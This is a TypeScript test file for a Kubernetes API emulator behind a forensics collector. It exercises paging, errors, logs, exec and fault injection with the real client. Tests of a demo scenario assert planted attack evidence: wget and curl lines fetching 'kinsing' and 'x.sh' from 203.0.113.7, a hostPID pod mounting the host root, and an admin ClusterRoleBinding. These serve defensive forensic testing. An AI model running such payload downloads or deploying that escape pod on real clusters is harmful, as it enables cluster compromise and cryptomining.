// The Kubernetes API emulator, driven by the real @kubernetes/client-node over real TLS.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFile, rm } from 'node:fs/promises';
import { Agent, request } from 'node:https';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import * as k8s from '@kubernetes/client-node';
import { WebSocketHandler } from '@kubernetes/client-node/dist/web-socket-handler.js';
import WebSocket from 'ws';
import { generateLargeScenario, loadScenario, parseScenario, startKubeEmulator, type KubeEmulator, type LogLine } from './index.js';
import { tempDir } from '../../support/tempDir.js';

const NOW = new Date('2026-03-01T12:00:00Z');

const SMALL = `
apiVersion: v1
kind: List
items:
- apiVersion: v1
  kind: Namespace
  metadata: {name: team-a, uid: 11111111-0000-4000-8000-000000000001, creationTimestamp: "\${now-2d}"}
- apiVersion: v1
  kind: Namespace
  metadata: {name: team-b, uid: 11111111-0000-4000-8000-000000000002, creationTimestamp: "\${now-2d}"}
${['p1', 'p2', 'p3', 'p4', 'p5']
  .map(
    (p, i) => `- apiVersion: v1
  kind: Pod
  metadata: {name: ${p}, namespace: ${i < 3 ? 'team-a' : 'team-b'}, labels: {app: ${i % 2 ? 'odd' : 'even'}}, creationTimestamp: "\${now-40m}"}
  spec: {containers: [{name: app, image: "registry.example/app:1"}, {name: side, image: "gcr.io/distroless/static:nonroot"}]}
  status: {phase: Running}`,
  )
  .join('\n')}
- apiVersion: rbac.authorization.k8s.io/v1
  kind: ClusterRole
  metadata: {name: view, creationTimestamp: "\${now-2d}"}
  rules: [{apiGroups: [""], resources: [pods], verbs: [get, list]}]
---
apiVersion: kubeforensys.dev/emulator-v1
kind: KubeForenSysEmulatorData
cluster: test-cluster
auth: {token: test-token, username: "system:serviceaccount:forensics:collector"}
containers:
- namespace: team-a
  pod: p1
  container: app
  logs:
  - "\${now-2h} old line"
  - time: "2026-03-01T11:30:00.123450000Z"
    text: "half an hour ago"
  - time: "\${now-10m}"
    base64: "//5oaSDAgA=="
  - time: "\${now-1m}"
    text: "A"
    repeat: 1500000
  previousLogs:
  - "\${now-3h} before the crash"
  files:
  - path: /root/.bash_history
    mtime: "\${now-30m}"
    content: |
      #\${epoch:now-31m}
      id
  - path: /home/alice/.zsh_history
    content: "ls\\n"
  - path: /root/.python_history
    latin1: "print('caf\\xe9')\\n\\xff"
- namespace: team-a
  pod: p1
  container: side
  distroless: true
faults:
- {type: forbidden, resource: cronjobs.batch, verb: list}
- {type: delay, ms: 50, path: /apis/batch/v1/jobs, times: 1}
`;

interface ApiErr {
  code: number;
  body: { kind?: string; reason?: string; message?: string; code?: number; details?: Record<string, unknown> } | undefined;
}

async function apiError(p: Promise<unknown>): Promise<ApiErr> {
  try {
    await p;
  } catch (e) {
    const err = e as { code: number; body: unknown };
    const body = typeof err.body === 'string' ? (JSON.parse(err.body) as ApiErr['body']) : (err.body as ApiErr['body']);
    return { code: err.code, body };
  }
  assert.fail('expected the call to fail');
}

function kubeConfig(emu: KubeEmulator, yaml = emu.kubeconfigYaml): k8s.KubeConfig {
  const kc = new k8s.KubeConfig();
  kc.loadFromString(yaml);
  return kc;
}

interface ExecResult {
  stdout: Buffer;
  stderr: string;
  status: k8s.V1Status | undefined;
  protocol: string;
  channels: number[];
}

/** Runs a command through the real client's Exec and waits for the socket to close. */
async function execRun(kc: k8s.KubeConfig, ns: string, pod: string, container: string, argv: string[], offer?: string[]): Promise<ExecResult> {
  const out: Buffer[] = [];
  let err = '';
  const channels: number[] = [];
  let status: k8s.V1Status | undefined;
  let socket: WebSocket | undefined;
  const handler = new WebSocketHandler(kc, (uri: string, protocols: string[], opts: WebSocket.ClientOptions) => {
    socket = new WebSocket(uri, offer ?? protocols, opts);
    socket.on('message', (data: Buffer) => channels.push(data[0]!));
    return socket;
  });
  const closed = new Promise<void>((resolve) => {
    const wait = setInterval(() => {
      if (socket) {
        clearInterval(wait);
        socket.on('close', () => resolve());
      }
    }, 1);
  });
  const stdout = new Writable({ write: (c: Buffer, _e, cb) => (out.push(c), cb()) });
  const stderr = new Writable({ write: (c: Buffer, _e, cb) => ((err += c.toString()), cb()) });
  const ws = (await new k8s.Exec(kc, handler).exec(ns, pod, container, argv, stdout, stderr, null, false, (s) => (status = s))) as unknown as WebSocket;
  await closed;
  return { stdout: Buffer.concat(out), stderr: err, status, protocol: ws.protocol, channels };
}

/** A raw HTTPS GET trusting the emulator's CA (for bodies the generated client throws away). */
function rawGet(emu: KubeEmulator, path: string, headers: Record<string, string> = {}): Promise<{ status: number; type: string; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = request(`${emu.url}${path}`, { ca: emu.caPem, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, type: String(res.headers['content-type']), body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** The client rejects a refused upgrade with the WebSocket ErrorEvent, whose message names the status. */
function upgradeRefused(code: number): (e: unknown) => boolean {
  return (e) => (e as { message?: string }).message === `Unexpected server response: ${code}`;
}

async function streamLog(kc: k8s.KubeConfig, ns: string, pod: string, container: string, opts: k8s.LogOptions): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const done = new Promise<void>((resolve) => {
    const sink = new Writable({ write: (c: Buffer, _e, cb) => (chunks.push(c), cb()), final: (cb) => (resolve(), cb()) });
    void new k8s.Log(kc).log(ns, pod, container, sink, opts);
  });
  await done;
  return Buffer.concat(chunks);
}

describe('kube emulator with the real client', () => {
  let emu: KubeEmulator;
  let kc: k8s.KubeConfig;
  let core: k8s.CoreV1Api;

  before(async () => {
    emu = await startKubeEmulator({ scenario: parseScenario(SMALL, { now: NOW }) });
    kc = kubeConfig(emu);
    core = kc.makeApiClient(k8s.CoreV1Api);
  });
  after(() => emu.close());

  it('writes a kubeconfig that trusts the emulator CA (no insecure flag) and names everything after the cluster', async () => {
    assert.doesNotMatch(emu.kubeconfigYaml, /insecure-skip-tls-verify/);
    assert.equal(kc.getCurrentContext(), 'test-cluster');
    assert.equal(kc.getCurrentCluster()?.name, 'test-cluster');
    assert.equal(kc.getCurrentUser()?.name, 'test-cluster');
    const dir = await tempDir('kfs-emu-');
    try {
      await emu.writeKubeconfig(join(dir, 'config'));
      const kc2 = new k8s.KubeConfig();
      kc2.loadFromFile(join(dir, 'config'));
      const ns = await kc2.makeApiClient(k8s.CoreV1Api).listNamespace();
      assert.deepEqual(ns.items.map((n) => n.metadata?.name), ['team-a', 'team-b']);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('pages a cluster-wide list with limit/continue and remainingItemCount, in namespace/name order', async () => {
    const names: string[] = [];
    const remaining: (number | undefined)[] = [];
    let cont: string | undefined;
    do {
      const page = await core.listPodForAllNamespaces({ limit: 2, _continue: cont });
      names.push(...page.items.map((p) => `${p.metadata?.namespace}/${p.metadata?.name}`));
      remaining.push(page.metadata?.remainingItemCount);
      cont = page.metadata?._continue;
    } while (cont);
    assert.deepEqual(names, ['team-a/p1', 'team-a/p2', 'team-a/p3', 'team-b/p4', 'team-b/p5']);
    assert.deepEqual(remaining, [3, 1, undefined]);
    const raw = JSON.parse((await rawGet(emu, '/api/v1/namespaces/team-a/pods', { Authorization: 'Bearer test-token' })).body.toString());
    assert.equal(raw.kind, 'PodList');
    assert.match(raw.metadata.resourceVersion, /^\d+$/);
    assert.equal(raw.items.length, 3);
    assert.equal(raw.items[0].kind, undefined, 'list items carry no kind, as on a real API server');
    const one = await core.readNamespacedPod({ namespace: 'team-b', name: 'p4' });
    assert.equal(one.kind, 'Pod');
    const sel = await core.listNamespacedPod({ namespace: 'team-a', labelSelector: 'app=even' });
    assert.deepEqual(sel.items.map((p) => p.metadata?.name), ['p1', 'p3']);
    const fields = await core.listPodForAllNamespaces({ fieldSelector: 'status.phase=Running,metadata.namespace!=team-a', labelSelector: 'app in (odd)' });
    assert.deepEqual(fields.items.map((p) => p.metadata?.name), ['p4']);
  });

  it('answers 410 Expired for a continue token after page N, once, and a fresh list then completes', async () => {
    emu.faults.expireContinue('pods', 1);
    const first = await core.listPodForAllNamespaces({ limit: 2 });
    const err = await apiError(core.listPodForAllNamespaces({ limit: 2, _continue: first.metadata?._continue }));
    assert.equal(err.code, 410);
    assert.equal(err.body?.reason, 'Expired');
    assert.match(err.body?.message ?? '', /^The provided continue parameter is too old to display a consistent list result\./);
    let count = 0;
    let cont: string | undefined;
    do {
      const page = await core.listPodForAllNamespaces({ limit: 2, _continue: cont });
      count += page.items.length;
      cont = page.metadata?._continue;
    } while (cont);
    assert.equal(count, 5);
  });

  it('answers 403 with the real Status shape, cluster-wide only or in chosen namespaces', async () => {
    const remove = emu.faults.forbid('pods', { scope: 'cluster' });
    try {
      const err = await apiError(core.listPodForAllNamespaces());
      assert.equal(err.code, 403);
      assert.deepEqual(err.body, {
        kind: 'Status',
        apiVersion: 'v1',
        metadata: {},
        status: 'Failure',
        message:
          'pods is forbidden: User "system:serviceaccount:forensics:collector" cannot list resource "pods" in API group "" at the cluster scope',
        reason: 'Forbidden',
        details: { kind: 'pods' },
        code: 403,
      });
      assert.equal((await core.listNamespacedPod({ namespace: 'team-a' })).items.length, 3, 'per-namespace lists still work');
    } finally {
      remove();
    }
    emu.faults.forbid('clusterroles.rbac.authorization.k8s.io', { times: 1 });
    const rbac = kc.makeApiClient(k8s.RbacAuthorizationV1Api);
    const e2 = await apiError(rbac.listClusterRole());
    assert.match(e2.body?.message ?? '', /cannot list resource "clusterroles" in API group "rbac.authorization.k8s.io" at the cluster scope/);
    assert.equal((await rbac.listClusterRole()).items.length, 1, 'times: 1 lets the next call through');
    const rm2 = emu.faults.forbid('pods', { namespaces: ['team-b'] });
    const e3 = await apiError(core.listNamespacedPod({ namespace: 'team-b' }));
    assert.match(e3.body?.message ?? '', /in the namespace "team-b"$/);
    rm2();
  });

  it('serves logs with RFC3339Nano timestamps, sinceSeconds, tailLines and limitBytes', async () => {
    const all = await core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'app', timestamps: true, limitBytes: 80 });
    const lines = all.split('\n');
    assert.equal(lines[0], '2026-03-01T10:00:00Z old line');
    assert.equal(lines[1], '2026-03-01T11:30:00.12345Z half an hour ago', 'trailing zeros are trimmed like Go RFC3339Nano');
    assert.equal(Buffer.byteLength(all), 80, 'limitBytes cuts the stream mid-line');
    // The emulator's clock starts at NOW: sinceSeconds=3600 keeps the last three lines only.
    const recent = await core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'app', sinceSeconds: 3600, tailLines: 2 });
    assert.ok(!recent.includes('half an hour ago'));
    assert.ok(recent.startsWith('\ufffd'), 'the non-UTF-8 line comes first after tailLines=2');
    const prev = await core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'app', previous: true });
    assert.equal(prev, 'before the crash\n');
    // The apiserver hands sinceTime to the kubelet as time.RFC3339 (whole seconds): 11:30:00.2
    // still returns the 11:30:00.12345 line, 11:30:01 drops it.
    const since = await streamLog(kc, 'team-a', 'p1', 'app', { sinceTime: '2026-03-01T11:30:00.2Z', timestamps: true, limitBytes: 27 });
    assert.equal(since.toString(), '2026-03-01T11:30:00.12345Z ');
    const after = await streamLog(kc, 'team-a', 'p1', 'app', { sinceTime: '2026-03-01T11:30:01Z', timestamps: true, limitBytes: 21 });
    assert.equal(after.toString(), '2026-03-01T11:50:00Z ', 'sinceTime drops the 11:30:00.12345 line');
  });

  it('keeps non-UTF-8 bytes and streams a 1.5 MB single line intact', async () => {
    const body = await streamLog(kc, 'team-a', 'p1', 'app', { sinceSeconds: 1200 });
    const nl = body.indexOf(0x0a);
    assert.deepEqual(body.subarray(0, nl), Buffer.from('//5oaSDAgA==', 'base64'));
    const big = body.subarray(nl + 1);
    assert.equal(big.length, 1_500_001);
    assert.equal(big.at(-1), 0x0a);
    assert.ok(big.subarray(0, -1).every((b) => b === 0x41));
  });

  it('answers the real 400/404 bodies for previous, container and pod errors', async () => {
    const prev = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'p2', container: 'app', previous: true }));
    assert.equal(prev.code, 400);
    assert.equal(prev.body?.reason, 'BadRequest');
    assert.equal(prev.body?.message, 'previous terminated container "app" in pod "p2" not found');
    const bad = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'nope' }));
    assert.equal(bad.code, 400);
    assert.equal(bad.body?.message, 'container nope is not valid for pod p1');
    const none = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1' }));
    assert.equal(none.body?.message, 'a container name must be specified for pod p1, choose one of: [app side]');
    const missing = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'ghost', container: 'app' }));
    assert.equal(missing.code, 404);
    assert.equal(missing.body?.reason, 'NotFound');
    assert.equal(missing.body?.message, 'pods "ghost" not found');
    const log = await rawGet(emu, '/api/v1/namespaces/team-a/pods/p1/log?container=app&tailLines=1', { Authorization: 'Bearer test-token' });
    assert.equal(log.type, 'text/plain');
  });

  it('execs over v5.channel.k8s.io: stdout on 1, status Success on 3, never channel 255', async () => {
    const r = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/root/.bash_history']);
    assert.equal(r.protocol, 'v5.channel.k8s.io');
    assert.match(r.stdout.toString(), /^#\d{10}\nid\n$/);
    assert.deepEqual(r.status, { metadata: {}, status: 'Success' });
    assert.ok(r.channels.every((c) => c === 1 || c === 2 || c === 3));
    assert.equal(r.channels.at(-1), 3);
    const stat = await execRun(kc, 'team-a', 'p1', 'app', ['stat', '-c', '%Y', '/root/.bash_history']);
    assert.equal(stat.stdout.toString(), `${NOW.getTime() / 1000 - 1800}\n`);
    const ls = await execRun(kc, 'team-a', 'p1', 'app', ['ls', '-1', '/home']);
    assert.equal(ls.stdout.toString(), 'alice\n');
    const raw = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/root/.python_history']);
    assert.deepEqual(raw.stdout, Buffer.from([...Buffer.from("print('caf"), 0xe9, ...Buffer.from("')\n"), 0xff]), 'latin1 escapes are single raw bytes');
  });

  it('execs over v4.channel.k8s.io when the client offers only v4', async () => {
    const r = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/home/alice/.zsh_history'], ['v4.channel.k8s.io']);
    assert.equal(r.protocol, 'v4.channel.k8s.io');
    assert.equal(r.stdout.toString(), 'ls\n');
    assert.equal(r.status?.status, 'Success');
  });

  it('reports a missing file as NonZeroExitCode with exit code 1 and the cat message on stderr', async () => {
    const r = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/root/.ash_history']);
    assert.equal(r.stderr, 'cat: /root/.ash_history: No such file or directory\n');
    assert.equal(r.status?.status, 'Failure');
    assert.equal(r.status?.reason, 'NonZeroExitCode');
    assert.deepEqual(r.status?.details?.causes, [{ reason: 'ExitCode', message: '1' }]);
  });

  it('reports a distroless container as InternalError "executable file not found"', async () => {
    const r = await execRun(kc, 'team-a', 'p1', 'side', ['cat', '/root/.bash_history']);
    assert.equal(r.status?.status, 'Failure');
    assert.equal(r.status?.reason, 'InternalError');
    assert.match(r.status?.message ?? '', /exec: "cat": executable file not found in \$PATH: unknown$/);
    assert.equal(r.stdout.length, 0);
  });

  it('refuses a forbidden exec at the upgrade with HTTP 403', async () => {
    const remove = emu.faults.forbidExec({ namespaces: ['team-a'] });
    try {
      await assert.rejects(execRun(kc, 'team-a', 'p1', 'app', ['id']), upgradeRefused(403));
    } finally {
      remove();
    }
  });

  it('answers 401 with a Status body for a wrong or missing token', async () => {
    const wrong = kubeConfig(emu, emu.kubeconfigYaml.replace('token: test-token', 'token: stolen'));
    const err = await apiError(wrong.makeApiClient(k8s.CoreV1Api).listNamespace());
    assert.equal(err.code, 401);
    const raw = await rawGet(emu, '/api/v1/namespaces');
    assert.equal(raw.status, 401);
    assert.equal(raw.type, 'application/json');
    assert.deepEqual(JSON.parse(raw.body.toString()), {
      kind: 'Status',
      apiVersion: 'v1',
      metadata: {},
      status: 'Failure',
      message: 'Unauthorized',
      reason: 'Unauthorized',
      code: 401,
    });
    await assert.rejects(execRun(wrong, 'team-a', 'p1', 'app', ['id']), upgradeRefused(401));
  });

  it('injects 500s and dropped connections on a path, and logs every request', async () => {
    const rmErr = emu.faults.failPath('/api/v1/namespaces/team-b/pods');
    const e = await apiError(core.listNamespacedPod({ namespace: 'team-b' }));
    assert.equal(e.code, 500);
    assert.equal(e.body?.reason, 'InternalError');
    rmErr();
    emu.faults.drop('/api/v1/namespaces/team-a/pods', 1);
    await assert.rejects(core.listNamespacedPod({ namespace: 'team-a' }));
    assert.equal((await core.listNamespacedPod({ namespace: 'team-a' })).items.length, 3);
    const last = emu.requestLog.filter((r) => r.path.startsWith('/api/v1/namespaces/team-a/pods')).slice(-2);
    assert.deepEqual(last.map((r) => r.status), [0, 200]);
  });

  it('applies the faults written in the scenario', async () => {
    const batch = kc.makeApiClient(k8s.BatchV1Api);
    const err = await apiError(batch.listCronJobForAllNamespaces());
    assert.equal(err.code, 403);
    assert.match(err.body?.message ?? '', /cannot list resource "cronjobs" in API group "batch"/);
    assert.deepEqual((await batch.listJobForAllNamespaces()).items, [], 'a delayed answer still arrives');
    assert.deepEqual(emu.faults.list().map((f) => f.type), ['forbidden'], 'the one-shot delay is used up');
  });

  it('answers who the token is, and the server version', async () => {
    const review = await kc.makeApiClient(k8s.AuthenticationV1Api).createSelfSubjectReview({
      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' },
    });
    assert.equal(review.status?.userInfo?.username, 'system:serviceaccount:forensics:collector');
    const v = await kc.makeApiClient(k8s.VersionApi).getCode();
    assert.equal(v.gitVersion, 'v1.30.6');
  });

  it('warns about scenario data for a container that does not exist', async () => {
    const emu2 = await startKubeEmulator({
      scenario: parseScenario(`apiVersion: v1
kind: ConfigMapX
metadata: {name: odd}
---
apiVersion: kubeforensys.dev/emulator-v1
kind: KubeForenSysEmulatorData
containers:
- {namespace: x, pod: y, container: z, logs: []}
`),
    });
    await emu2.close();
    assert.equal(emu2.warnings.length, 2);
    assert.match(emu2.warnings[1]!, /container data for x\/y\/z: no pod x\/y/);
  });

  it('refuses writes: the emulated cluster is read-only', async () => {
    const err = await apiError(core.deleteNamespacedPod({ namespace: 'team-a', name: 'p1' }));
    assert.equal(err.code, 405);
  });
});

describe('scenario loading', () => {
  it('resolves relative times against the start time', () => {
    const s = parseScenario(SMALL, { now: NOW });
    const ns = s.objects.find((o) => o.metadata?.name === 'team-a');
    assert.equal(ns?.metadata?.creationTimestamp, '2026-02-27T12:00:00Z');
    const hist = s.containers.get('team-a/p1/app')?.files?.['/root/.bash_history']?.content.toString();
    assert.equal(hist, `#${NOW.getTime() / 1000 - 31 * 60}\nid\n`);
  });

  it('accepts files as a mapping path → file or path → text', () => {
    const s = parseScenario(`apiVersion: kubeforensys.dev/emulator-v1
kind: KubeForenSysEmulatorData
containers:
- namespace: a
  pod: b
  container: c
  files:
    /root/.sh_history: "ls\\n"
    /root/.mysql_history: {content: "show databases;", mtime: "\${now-1h}"}
`, { now: NOW });
    const files = s.containers.get('a/b/c')?.files ?? {};
    assert.equal(files['/root/.sh_history']?.content.toString(), 'ls\n');
    assert.equal(files['/root/.mysql_history']?.mtime, '2026-03-01T11:00:00Z');
  });

  it('loads the demo scenario with every planted attack step', async () => {
    const now = new Date();
    const s = await loadScenario('test/emulators/kube/scenarios/demo.yaml', { now });
    assert.equal(s.cluster, 'aks-prod-weu');
    const emu = await startKubeEmulator({ scenario: s });
    await emu.close();
    assert.deepEqual(emu.warnings, [], 'every object is served and every container-data entry names a real container');
    const byName = (kind: string, name: string) => s.objects.find((o) => o.kind === kind && o.metadata?.name === name);
    const debuggerPod = byName('Pod', 'node-debugger') as { metadata: { creationTimestamp: string; ownerReferences?: unknown }; spec: { hostPID: boolean; volumes: { hostPath?: { path: string } }[] } };
    assert.equal(Date.parse(debuggerPod.metadata.creationTimestamp), Math.floor(now.getTime() / 1000) * 1000 - 40 * 60_000);
    assert.equal(debuggerPod.metadata.ownerReferences, undefined);
    assert.ok(debuggerPod.spec.hostPID);
    assert.ok(debuggerPod.spec.volumes.some((v) => v.hostPath?.path === '/'));
    assert.ok(byName('ClusterRoleBinding', 'default-admin'));
    assert.ok(byName('CronJob', 'kube-metrics-sync'));
    assert.ok(byName('Job', 'kube-metrics-sync-28391234'));
    const prev = s.containers.get('prod-web/api-backend-5c6d7e8f9-abcde/api')?.previousLogs as readonly LogLine[];
    assert.ok(prev.some((l) => l.text?.includes('uid=0(root) gid=0(root)')));
    assert.ok(prev.some((l) => l.text?.includes('wget http://203.0.113.7/kinsing')));
    assert.equal(s.containers.get('prod-web/api-backend-5c6d7e8f9-abcde/metrics')?.distroless, true);
  });

  it('serves the demo: web-frontend history through exec, events in both APIs with the same uid', async () => {
    const emu = await startKubeEmulator({ scenario: 'test/emulators/kube/scenarios/demo.yaml' });
    try {
      const kc = kubeConfig(emu);
      const r = await execRun(kc, 'prod-web', 'web-frontend-7d9f8b6c5d-x2k9p', 'nginx', ['cat', '/root/.bash_history']);
      assert.match(r.stdout.toString(), /curl -sL http:\/\/203\.0\.113\.7\/x\.sh -o \/tmp\/x\.sh/);
      const core = (await kc.makeApiClient(k8s.CoreV1Api).listEventForAllNamespaces()).items;
      const v1 = (await kc.makeApiClient(k8s.EventsV1Api).listEventForAllNamespaces()).items;
      const pulling = core.find((e) => e.reason === 'Pulling' && e.involvedObject.name === 'node-debugger');
      assert.ok(pulling);
      assert.equal(v1.find((e) => e.metadata?.uid === pulling.metadata.uid)?.note, pulling.message);
      const scheduled = v1.find((e) => e.reason === 'Scheduled' && e.regarding?.name === 'node-debugger');
      assert.ok(scheduled?.eventTime);
      assert.ok(core.some((e) => e.metadata.uid === scheduled.metadata?.uid));
    } finally {
      await emu.close();
    }
  });

  it('generates a large cluster whose logs are produced on demand', async () => {
    const s = generateLargeScenario({ pods: 20, containersPerPod: 2, linesPerContainer: 1000 });
    assert.equal(s.objects.filter((o) => o.kind === 'Pod').length, 20);
    assert.equal(s.containers.size, 40);
    assert.equal(typeof s.containers.values().next().value?.logs, 'function');
    const emu = await startKubeEmulator({ scenario: s });
    try {
      const kc = kubeConfig(emu);
      const pod = (await kc.makeApiClient(k8s.CoreV1Api).listNamespacedPod({ namespace: 'bench-3' })).items[0]!;
      const log = await kc
        .makeApiClient(k8s.CoreV1Api)
        .readNamespacedPodLog({ namespace: 'bench-3', name: pod.metadata!.name!, container: 'sidecar-1', timestamps: true, sinceSeconds: 86400 });
      assert.equal(log.trimEnd().split('\n').length, 1000);
    } finally {
      await emu.close();
    }
  });
});

// ---- strictness and transient faults ---------------------------------------------------------

const CLOCKED = `
apiVersion: v1
kind: List
items:
- apiVersion: v1
  kind: Pod
  metadata: {name: web, namespace: default, creationTimestamp: "\${now-1h}"}
  spec: {containers: [{name: app, image: "registry.example/web:1"}]}
  status: {phase: Running}
- apiVersion: v1
  kind: Pod
  metadata: {name: big, namespace: default, creationTimestamp: "\${now-1h}"}
  spec: {containers: [{name: app, image: "registry.example/big:1"}]}
  status: {phase: Running}
${Array.from({ length: 7 }, (_, i) => `- apiVersion: v1
  kind: ConfigMap
  metadata: {name: cm-${i}, namespace: default}
  data: {k: v}`).join('\n')}
---
apiVersion: kubeforensys.dev/emulator-v1
kind: KubeForenSysEmulatorData
now: "2026-11-30T10:00:00Z"
auth: {token: t}
containers:
- namespace: default
  pod: web
  container: app
  logs:
  - "2026-11-30T09:59:58Z first"
  - "2026-11-30T09:59:59.500000000Z half"
  - "2026-11-30T09:59:59.5Z same time"
  - "2026-11-30T10:00:00.000000001Z one ns"
  - "2026-11-30T11:00:00.250+01:00 offset"
  - "\${now+1s} later"
  previousLogs: ["\${now-2h} before"]
- namespace: default
  pod: big
  container: app
  logs:
  - time: "\${now-1m}"
    text: "0123456789"
    repeat: 2000
`;

interface Raw {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: Buffer;
  /** The response body arrived complete. */
  complete: boolean;
  chunks: number;
  ms: number;
}

/** A GET that never rejects on a cut body: it reports what arrived and whether it was complete. */
function fetchRaw(emu: KubeEmulator, path: string, opts: { token?: string; agent?: Agent } = {}): Promise<Raw> {
  const started = performance.now();
  return new Promise((resolve, reject) => {
    const headers = opts.token === undefined ? {} : { Authorization: `Bearer ${opts.token}` };
    const req = request(`${emu.url}${path}`, { ca: emu.caPem, headers, ...(opts.agent ? { agent: opts.agent } : {}) }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('error', () => {});
      res.on('close', () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks), complete: res.complete, chunks: chunks.length, ms: performance.now() - started }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const WEB_LOG = '/api/v1/namespaces/default/pods/web/log';

describe('kube emulator: strict parameters, clock and transient faults', () => {
  let emu: KubeEmulator;
  const get = (path: string, opts: { agent?: Agent } = {}) => fetchRaw(emu, path, { token: 't', ...opts });

  before(async () => {
    emu = await startKubeEmulator({ scenario: parseScenario(CLOCKED), recordBodies: true });
  });
  after(() => emu.close());

  it('takes its clock from the data document: now: resolves ${now…} and starts emu.now()', () => {
    assert.equal(emu.scenario.now?.toISOString(), '2026-11-30T10:00:00.000Z');
    const web = emu.scenario.objects.find((o) => o.metadata?.name === 'web');
    assert.equal(web?.metadata?.creationTimestamp, '2026-11-30T09:00:00Z');
    assert.ok(Math.abs(emu.now().getTime() - Date.parse('2026-11-30T10:00:00Z')) < 60_000);
    const override = parseScenario(CLOCKED, { now: new Date('2030-01-01T00:00:00Z') });
    assert.equal(override.objects.find((o) => o.metadata?.name === 'web')?.metadata?.creationTimestamp, '2029-12-31T23:00:00Z', 'an explicit now wins');
    assert.throws(() => parseScenario('apiVersion: kubeforensys.dev/emulator-v1\nkind: KubeForenSysEmulatorData\nnow: "yesterday"\n'), /now: "yesterday" is not an RFC 3339 time/);
  });

  it('prints timestamps as Go RFC3339Nano: trailing zeros trimmed, the line offset kept', async () => {
    const r = await get(`${WEB_LOG}?timestamps=true`);
    assert.equal(
      r.body.toString(),
      [
        '2026-11-30T09:59:58Z first',
        '2026-11-30T09:59:59.5Z half',
        '2026-11-30T09:59:59.5Z same time',
        '2026-11-30T10:00:00.000000001Z one ns',
        '2026-11-30T11:00:00.25+01:00 offset',
        '2026-11-30T10:00:01Z later',
        '',
      ].join('\n'),
    );
  });

  it('reads booleans like kube-apiserver (0 / false in any case are false, anything else true)', async () => {
    const stamped = async (v: string) => /^2026-/.test((await get(`${WEB_LOG}?timestamps=${encodeURIComponent(v)}`)).body.toString());
    for (const v of ['True', 'true', 'TRUE', '1', 't', 'T', 'yes', 'f', '']) assert.equal(await stamped(v), true, `timestamps=${v}`);
    for (const v of ['0', 'false', 'False', 'FALSE', 'fAlSe']) assert.equal(await stamped(v), false, `timestamps=${v}`);
    assert.equal((await get(`${WEB_LOG}?previous=True`)).body.toString(), 'before\n');
    assert.equal((await get('/api/v1/namespaces/default/pods?watch=True')).status, 405, 'watch=True is a watch');
    assert.equal((await get('/api/v1/namespaces/default/pods?watch=0&allowWatchBookmarks=nonsense')).status, 200);
  });

  it('reads booleans like Go strconv.ParseBool with booleanParams: strconv, refusing anything else with 400', async () => {
    const strict = await startKubeEmulator({ scenario: parseScenario(CLOCKED), booleanParams: 'strconv' });
    try {
      const log = (v: string) => fetchRaw(strict, `${WEB_LOG}?timestamps=${encodeURIComponent(v)}`, { token: 't' });
      for (const v of ['1', 't', 'T', 'TRUE', 'true', 'True']) assert.match((await log(v)).body.toString(), /^2026-11-30T09:59:58Z first\n/, v);
      for (const v of ['0', 'f', 'F', 'FALSE', 'false', 'False']) assert.match((await log(v)).body.toString(), /^first\n/, v);
      for (const v of ['yes', 'fAlSe', '']) {
        const r = await log(v);
        assert.equal(r.status, 400, v);
        assert.equal(r.headers['content-type'], 'application/json');
        const body = JSON.parse(r.body.toString()) as { reason: string; message: string };
        assert.equal(body.reason, 'BadRequest');
        assert.equal(body.message, `strconv.ParseBool: parsing "${v}": invalid syntax`);
      }
      const watch = await fetchRaw(strict, '/api/v1/pods?watch=on', { token: 't' });
      assert.equal(watch.status, 400);
    } finally {
      await strict.close();
    }
  });

  it('refuses malformed integers with 400 and invalid log options with the real 422', async () => {
    const bad = JSON.parse((await get('/api/v1/namespaces/default/configmaps?limit=ten')).body.toString()) as { code: number; message: string };
    assert.deepEqual([bad.code, bad.message], [400, 'strconv.ParseInt: parsing "ten": invalid syntax']);
    const both = await get(`${WEB_LOG}?sinceSeconds=10&sinceTime=2026-11-30T09:00:00Z`);
    assert.equal(both.status, 422);
    assert.deepEqual(JSON.parse(both.body.toString()), {
      kind: 'Status',
      apiVersion: 'v1',
      metadata: {},
      status: 'Failure',
      message: 'PodLogOptions "web" is invalid: sinceSeconds: Forbidden: at most one of `sinceTime` or `sinceSeconds` may be specified',
      reason: 'Invalid',
      details: { name: 'web', kind: 'PodLogOptions', causes: [{ reason: 'FieldValueForbidden', message: 'Forbidden: at most one of `sinceTime` or `sinceSeconds` may be specified', field: 'sinceSeconds' }] },
      code: 422,
    });
    const zero = JSON.parse((await get(`${WEB_LOG}?sinceSeconds=0`)).body.toString()) as { message: string };
    assert.equal(zero.message, 'PodLogOptions "web" is invalid: sinceSeconds: Invalid value: 0: must be greater than 0');
    const ghost = await get('/api/v1/namespaces/default/pods/ghost/log?tailLines=-1');
    assert.equal(ghost.status, 422, 'options are validated before the pod is looked up, as in the apiserver');
  });

